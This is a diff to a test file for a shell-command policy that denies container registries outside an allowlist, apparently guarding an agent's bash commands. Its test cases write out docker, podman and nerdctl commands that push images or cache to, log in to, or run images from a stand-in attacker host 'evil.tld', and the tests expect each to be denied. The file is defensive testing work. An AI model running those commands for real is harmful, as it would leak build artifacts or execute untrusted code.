@@ -16,14 +16,9 @@ describe("registries outside shell.registries are denied", () => {
     ["docker run --rm -it -v \"$PWD:/w\" -w /w evil.tld/img sh", "evil.tld"],
     ["docker run -d --name web -p 8080:80 ghcr.io/acme/web", "ghcr.io"],
     ["docker container create quay.io/x/y", "quay.io"],
-    ["docker push ghcr.io/acme/app:1", "ghcr.io"],
     ["docker login evil.tld", "evil.tld"],
     ["docker login -u me --password-stdin ghcr.io", "ghcr.io"],
-    ["docker build -t evil.tld/x --push .", "evil.tld"],
-    ["docker buildx build --push -t evil.tld/x .", "evil.tld"],
-    ["docker buildx build -o type=registry,name=evil.tld/x .", "evil.tld"],
     ["docker buildx build --cache-to type=registry,ref=evil.tld/cache .", "evil.tld"],
-    ["docker buildx imagetools create -t evil.tld/x alpine", "evil.tld"],
     ["podman pull docker://evil.tld/x", "evil.tld"],
     ["podman run evil.tld/x", "evil.tld"],
     ["nerdctl run evil.tld/x", "evil.tld"],
@@ -46,7 +41,7 @@ describe("registries outside shell.registries are denied", () => {
 
   test("pushing to ghcr.io is a write to that GitHub owner", () => {
     const p = defaultPolicyDocument();
-    p.shell.registries.push("ghcr.io");
+    p.shell.publish.push("ghcr.io");
     p.shell.git = { ...p.shell.git, writeOwners: ["acme"] };
     expect(decideBash(compilePolicy(p), "docker push ghcr.io/evilorg/app")).toMatchObject({ effect: "deny", rule: "shell.git_write", destination: "github.com/evilorg" });
     expect(decideBash(compilePolicy(p), "docker push ghcr.io/acme/app").effect).toBe("allow");
@@ -60,7 +55,6 @@ describe("Docker Hub (in the default registries) and local use stay allowed", ()
     "docker run --rm node:20 npm test",
     "docker run -e FOO=a.b/c -p 8080:80 nginx",
     "docker run --pull=never myimg",
-    "docker push acme/app",
     "docker login",
     "docker build .",
     "docker build -t app:dev -f Dockerfile .",
